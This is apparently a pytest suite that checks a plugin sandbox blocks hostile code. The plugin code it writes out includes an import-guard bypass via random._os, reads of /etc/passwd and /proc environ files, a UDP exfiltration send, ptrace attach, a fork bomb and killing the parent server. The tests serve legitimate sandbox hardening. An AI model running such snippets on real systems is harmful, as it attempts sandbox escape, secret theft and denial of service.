"""Hostile plugins: each attack must fail inside the sandbox, leak nothing, and leave the fork server
running. The attacks reach `os`, `sys`, `socket` and `ctypes` the way real plugin code would, past the
import guard (`random._os`, `os.sys.modules`), so that what stops them is the kernel."""

from __future__ import annotations

import ast
import os
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from plugins.sandbox import SandboxConfig, SandboxError, SandboxResult

from .conftest import PROJECT_DIR, make_package, server_pid

pytestmark = pytest.mark.slow

# `attack(message)` runs inside execute; the answer says whether it was blocked or what leaked.
ATTACK = """
import random
from skybot_plugin_sdk import AgentOutput, AgentPlugin

os = random._os  # the import guard is a courtesy: plugin code can always reach os like this
sys = os.sys

{attack}

class Agent(AgentPlugin):
    def execute(self, input, context):
        try:
            result = attack(input.message)
        except BaseException as exc:
            return AgentOutput(response=f"blocked: {{type(exc).__name__}}: {{exc}}")
        return AgentOutput(response=f"LEAKED: {{result!r}}")
"""

RunPlugin = Callable[..., SandboxResult]


def attack(run_plugin: RunPlugin, body: str, message: str = "") -> str:
    result = run_plugin(ATTACK.format(attack=body), message=message)
    return str(result.value["response"])


@pytest.fixture(autouse=True)
def server_survives(run_plugin: RunPlugin, sandbox_config: SandboxConfig) -> Iterator[None]:
    """Every attack leaves the same fork server answering normal calls."""
    run_plugin(ATTACK.format(attack="def attack(message):\n    return 'warm-up'"))
    before = server_pid(sandbox_config)
    yield
    assert server_pid(sandbox_config) == before
    assert attack(run_plugin, "def attack(message):\n    return 'still here'") == "LEAKED: 'still here'"


# --- network ------------------------------------------------------------------------------------
@pytest.mark.parametrize("port", [5432, 6379])
def test_tcp_connect_to_local_services_fails(run_plugin: RunPlugin, port: int) -> None:
    # given a plugin connecting to PostgreSQL / Redis on the host
    body = """
def attack(message):
    socket = sys.modules["socket"]
    return socket.create_connection(("127.0.0.1", int(message)), timeout=1).recv(10)
"""
    # when / then
    assert attack(run_plugin, body, str(port)).startswith("blocked: PermissionError")


def test_udp_sendto_fails(run_plugin: RunPlugin) -> None:
    body = """
def attack(message):
    socket = sys.modules["socket"]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return udp.sendto(b"exfiltrated", ("1.1.1.1", 53))
"""
    assert attack(run_plugin, body).startswith("blocked: PermissionError")


@pytest.mark.parametrize("target", ["/var/run/postgresql/.s.PGSQL.5432", "FORKSERVER"])
def test_unix_socket_connect_fails(run_plugin: RunPlugin, sandbox_config: SandboxConfig, target: str) -> None:
    path = sandbox_config.socket_path if target == "FORKSERVER" else target
    body = """
def attack(message):
    socket = sys.modules["socket"]
    conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    conn.connect(message)
    return "connected"
"""
    assert attack(run_plugin, body, str(path)).startswith("blocked: PermissionError")


def test_socket_through_libc_fails(run_plugin: RunPlugin) -> None:
    body = """
def attack(message):
    ctypes = sys.modules["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM
    raise PermissionError(f"socket() answered {fd}, errno {ctypes.get_errno()}") if fd < 0 else None
    return fd
"""
    assert attack(run_plugin, body) == "blocked: PermissionError: socket() answered -1, errno 1"


# --- files --------------------------------------------------------------------------------------
@pytest.fixture
def project_secret() -> Iterator[Path]:
    """A file in the project directory (world-readable, as `.env` or the SQLite db would be)."""
    path = Path(__file__).resolve().parent / f".sandbox-secret-{os.getpid()}"
    path.write_text("SECRET_KEY=do-not-leak\n")
    path.chmod(0o644)
    yield path
    path.unlink()


@pytest.mark.parametrize("target", ["/etc/passwd", "/proc/1/environ", "PROJECT_FILE", "ENV_EXAMPLE"])
def test_reading_files_fails(run_plugin: RunPlugin, project_secret: Path, target: str) -> None:
    path = {"PROJECT_FILE": str(project_secret), "ENV_EXAMPLE": str(PROJECT_DIR / ".env.example")}.get(target, target)
    body = """
def attack(message):
    with open(message) as handle:
        return handle.read(200)
"""
    response = attack(run_plugin, body, path)
    assert response.startswith("blocked: PermissionError")
    assert "do-not-leak" not in response


def test_reading_the_fork_servers_environment_fails(run_plugin: RunPlugin) -> None:
    body = """
def attack(message):
    with open(f"/proc/{os.getppid()}/environ", "rb") as handle:
        return handle.read(200)
"""
    assert attack(run_plugin, body).startswith("blocked: PermissionError")


def test_listing_the_project_fails(run_plugin: RunPlugin) -> None:
    body = """
def attack(message):
    return os.listdir(message)
"""
    assert attack(run_plugin, body, str(PROJECT_DIR)).startswith("blocked: PermissionError")


def test_writing_a_file_fails(run_plugin: RunPlugin) -> None:
    target = Path(f"/tmp/sandbox-escape-{os.getpid()}")
    body = """
def attack(message):
    with open(message, "w") as handle:
        handle.write("pwned")
"""
    assert attack(run_plugin, body, str(target)).startswith("blocked: PermissionError")
    assert not target.exists()


def test_the_environment_is_empty_and_the_uid_unprivileged(run_plugin: RunPlugin) -> None:
    body = """
def attack(message):
    return (dict(os.environ), os.getuid(), os.getgid(), os.getgroups(), os.getcwd())
"""
    assert attack(run_plugin, body) == "LEAKED: ({}, 65534, 65534, [], '/')"


def test_only_the_job_socket_is_open(run_plugin: RunPlugin) -> None:
    # The fork server's listening socket and other clients' connections must not be inherited.
    body = """
stat = sys.modules["stat"]
def attack(message):
    kinds = {}
    for fd in range(0, 256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        kinds[fd] = "socket" if stat.S_ISSOCK(mode) else "char" if stat.S_ISCHR(mode) else "other"
    return kinds
"""
    response = attack(run_plugin, body)
    kinds = ast.literal_eval(response.removeprefix("LEAKED: "))
    assert kinds.pop(0) == kinds.pop(1) == kinds.pop(2) == "char"
    assert list(kinds.values()) == ["socket"]


# --- processes ----------------------------------------------------------------------------------
def test_fork_bomb_fails(run_plugin: RunPlugin) -> None:
    body = """
def attack(message):
    children = [os.fork() for _ in range(1000)]
    if 0 in children:
        os._exit(0)
    return children
"""
    assert attack(run_plugin, body).startswith("blocked: PermissionError")


def test_os_system_runs_nothing(run_plugin: RunPlugin) -> None:
    target = Path(f"/tmp/sandbox-system-{os.getpid()}")
    body = """
def attack(message):
    status = os.system(f"touch {message}")
    raise PermissionError(f"os.system answered {status}") if status != 0 else None
"""
    assert attack(run_plugin, body, str(target)).startswith("blocked: PermissionError: os.system answered")
    assert not target.exists()


def test_subprocess_fails(run_plugin: RunPlugin) -> None:
    body = """
def attack(message):
    subprocess = sys.modules["subprocess"]
    return subprocess.run(["/bin/id"], capture_output=True).stdout
"""
    assert attack(run_plugin, body).startswith("blocked: PermissionError")


def test_killing_the_fork_server_fails(run_plugin: RunPlugin) -> None:
    body = """
def attack(message):
    os.kill(os.getppid(), 9)  # SIGKILL
"""
    assert attack(run_plugin, body).startswith("blocked: PermissionError")


def test_ptrace_attach_fails(run_plugin: RunPlugin) -> None:
    body = """
def attack(message):
    ctypes = sys.modules["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    answer = libc.ptrace(16, os.getppid(), None, None)  # PTRACE_ATTACH
    raise PermissionError(f"ptrace answered {answer}, errno {ctypes.get_errno()}") if answer != 0 else None
"""
    assert attack(run_plugin, body) == "blocked: PermissionError: ptrace answered -1, errno 1"


def test_unshare_and_mount_fail(run_plugin: RunPlugin) -> None:
    body = """
def attack(message):
    ctypes = sys.modules["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    answers = (libc.unshare(0x10000000), libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
    raise PermissionError(f"answered {answers}") if answers == (-1, -1) else None
"""
    assert attack(run_plugin, body) == "blocked: PermissionError: answered (-1, -1)"


# --- resources ----------------------------------------------------------------------------------
def test_allocating_4_gb_fails_with_memory(run_plugin: RunPlugin) -> None:
    source = """
from skybot_plugin_sdk import AgentOutput, AgentPlugin

class Agent(AgentPlugin):
    def execute(self, input, context):
        hoard = bytearray(4 * 1024 ** 3)
        return AgentOutput(response=str(len(hoard)))
"""
    with pytest.raises(SandboxError) as caught:
        run_plugin(source)
    assert caught.value.code == "memory"


def test_busy_loop_is_killed_and_does_not_delay_another_call(run_plugin: RunPlugin) -> None:
    # given a plugin spinning forever, started first
    spinning = """
from skybot_plugin_sdk import AgentPlugin

class Agent(AgentPlugin):
    def execute(self, input, context):
        while True:
            pass
"""
    outcome: dict[str, Any] = {}

    def spin() -> None:
        started = time.monotonic()
        try:
            run_plugin(spinning)
        except SandboxError as exc:
            outcome["code"] = exc.code
        outcome["seconds"] = time.monotonic() - started

    thread = threading.Thread(target=spin)
    thread.start()
    time.sleep(0.2)
    # when a normal call runs meanwhile
    started = time.monotonic()
    result = run_plugin(ATTACK.format(attack="def attack(message):\n    return 'fast'"))
    normal_seconds = time.monotonic() - started
    thread.join(10)
    # then the normal call was not held up, and the spinning one was killed at its timeout
    assert result.value["response"] == "LEAKED: 'fast'"
    assert normal_seconds < 0.5
    assert outcome["code"] == "timeout"
    assert 0.9 < outcome["seconds"] < 2.5


def test_sleeping_past_the_timeout_is_killed(run_plugin: RunPlugin) -> None:
    source = """
import time
from skybot_plugin_sdk import AgentPlugin

class Agent(AgentPlugin):
    def execute(self, input, context):
        time.sleep(30)
"""
    started = time.monotonic()
    with pytest.raises(SandboxError) as caught:
        run_plugin(source)
    assert caught.value.code == "timeout"
    assert time.monotonic() - started < 2.5


# --- the import guard ---------------------------------------------------------------------------
@pytest.mark.parametrize("module", ["django", "socket", "subprocess", "os", "ctypes", "plugins.sandbox"])
def test_importing_outside_the_allow_list_fails(run_plugin: RunPlugin, module: str) -> None:
    source = f"""
import {module}
from skybot_plugin_sdk import AgentPlugin

class Agent(AgentPlugin):
    pass
"""
    with pytest.raises(SandboxError) as caught:
        run_plugin(source, op="validate")
    assert caught.value.code == "load_error"
    assert f"import of '{module}' is not allowed" in caught.value.message


def test_importing_outside_the_allow_list_at_run_time_fails(run_plugin: RunPlugin) -> None:
    body = """
import importlib
def attack(message):
    return importlib.import_module("django")
"""
    assert attack(run_plugin, body).startswith("blocked: ImportError: import of 'django' is not allowed")


# --- the protocol -------------------------------------------------------------------------------
JOB_SOCKET = """
stat = sys.modules["stat"]
def job_socket():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
"""


@pytest.mark.parametrize(
    "frame",
    [
        b"\xff\xff\xff\xff",  # a length of 4 GB
        b"\x00\x00\x00\x05{{{{{",  # not JSON
        b"\x00\x00\x00\x02[]",  # JSON, not a message
        b'\x00\x00\x00\x10{"result": 1',  # cut short
    ],
)
def test_garbage_frames_are_a_protocol_error(run_plugin: RunPlugin, frame: bytes) -> None:
    body = (
        JOB_SOCKET
        + """
def attack(message):
    os.write(job_socket(), bytes.fromhex(message))
    os._exit(0)
"""
    )
    with pytest.raises(SandboxError) as caught:
        attack(run_plugin, body, frame.hex())
    assert caught.value.code == "protocol"


def test_oversize_output_is_refused(run_plugin: RunPlugin) -> None:
    source = """
from skybot_plugin_sdk import AgentOutput, AgentPlugin

class Agent(AgentPlugin):
    def execute(self, input, context):
        return AgentOutput(response="x" * 300_000)
"""
    with pytest.raises(SandboxError) as caught:
        run_plugin(source)
    assert caught.value.code == "invalid_output"


def test_oversize_frame_written_directly_is_a_protocol_error(run_plugin: RunPlugin) -> None:
    body = (
        JOB_SOCKET
        + """
def attack(message):
    fd = job_socket()
    body = b'{"result": "' + b"x" * 400_000 + b'"}'
    os.write(fd, len(body).to_bytes(4, "big"))
    while body:
        body = body[os.write(fd, body):]
"""
    )
    with pytest.raises(SandboxError) as caught:
        attack(run_plugin, body)
    assert caught.value.code == "protocol"


def test_a_checksum_mismatch_runs_nothing(sandbox_config: SandboxConfig) -> None:
    from plugins.sandbox import run

    package = make_package("raise SystemExit")
    with pytest.raises(SandboxError) as caught:
        run(
            package=package,
            sha256="0" * 64,
            entrypoint="agent:Agent",
            op="validate",
            payload={},
            handler=lambda call, args: None,
            config=sandbox_config,
        )
    assert caught.value.code == "checksum_mismatch"


@pytest.mark.parametrize(
    ("source", "entrypoint"),
    [
        ("class Agent:\n    pass\n", "agent:Agent"),
        ("Agent = 42\n", "agent:Agent"),
        ("from skybot_plugin_sdk import AgentPlugin\n", "agent:Missing"),
        ("def broken(:\n", "agent:Agent"),
    ],
)
def test_an_entrypoint_that_is_not_an_agent_plugin_is_a_load_error(
    run_plugin: RunPlugin, source: str, entrypoint: str
) -> None:
    with pytest.raises(SandboxError) as caught:
        run_plugin(source, op="validate", entrypoint=entrypoint)
    assert caught.value.code == "load_error"
